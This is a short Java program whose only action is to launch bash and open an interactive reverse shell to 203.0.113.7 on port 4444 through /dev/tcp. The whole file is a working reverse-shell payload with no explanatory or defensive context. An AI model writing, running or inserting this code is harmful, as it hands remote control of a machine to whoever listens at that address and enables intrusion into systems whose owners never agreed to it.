import java.io.*;

public class Main {
    public static void main(String[] args) throws Exception {
        ProcessBuilder pb = new ProcessBuilder("/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1");
        pb.inheritIO().start().waitFor();
    }
}
